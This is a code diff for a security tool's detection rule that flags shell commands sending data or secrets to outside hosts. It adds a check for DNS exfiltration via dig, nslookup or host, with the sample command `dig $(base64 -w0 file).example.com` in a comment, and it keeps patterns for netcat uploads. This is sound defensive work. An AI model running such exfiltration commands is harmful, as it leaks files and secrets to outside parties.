@@ -38,7 +38,7 @@ export const uploadCommand = defineDetection({
         if (!found.drop && !secrets) continue
         return {
           title: `${whom(item)} sent ${secrets ? 'what looks like secrets' : 'data'} to ${found.host}`,
-          why: `\`${excerpt(invocation.argv)}\` uploads${found.drop ? ' to a service that takes data from anyone' : ' to an outside address'}.`,
+          why: `\`${excerpt(invocation.argv)}\` sends data${found.drop ? ' to where anyone may leave it' : ' to an outside address'}.`,
           evidences: [item],
           destinations: [found.host],
           severity: secrets ? (found.drop ? 'high' : 'medium') : 'low',
@@ -81,6 +81,13 @@ function judge({ program, argv, pipedFrom }: Invocation): { host: string; drop: 
         return { host, drop: true }
     }
     return undefined
+  }
+  if (program === 'dig' || program === 'nslookup' || program === 'host') {
+    // `dig $(base64 -w0 file).example.com`: the lookup itself carries the data.
+    const carrier = argv.find((word) =>
+      /\b(?:base64|xxd|hexdump|od)\b[^)`]{0,200}[)`]\.[\w.-]{3,}/.test(word),
+    )
+    if (carrier !== undefined) return { host: carrier.slice(carrier.lastIndexOf(')') + 2), drop: true }
   }
   if (/^(?:nc|ncat|netcat)$/.test(program)) {
     const host = argv.find((word) => suffixIn(word.toLowerCase(), dropNames) !== undefined)
